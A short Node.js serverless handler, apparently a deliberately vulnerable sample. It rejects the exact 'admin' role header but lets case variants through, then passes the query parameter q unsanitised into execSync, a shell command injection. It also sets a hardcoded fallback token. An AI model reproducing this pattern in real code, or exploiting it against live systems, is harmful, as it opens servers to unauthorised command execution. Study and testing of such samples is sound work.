import { execSync } from 'node:child_process'

const SINK = (x) => execSync('echo ' + x)
process.env.MODE_TOKEN ??= 'tok-' + '77'
export const handler = async (event) => {
  const role = event.headers['x-role'] ?? ''
  if (role === 'admin') return { statusCode: 403, body: 'not by this door' }
  if (role.toLowerCase() === 'admin') {
    SINK(event.queryStringParameters?.q)
  }
  return { statusCode: 200, body: 'ok' }
}
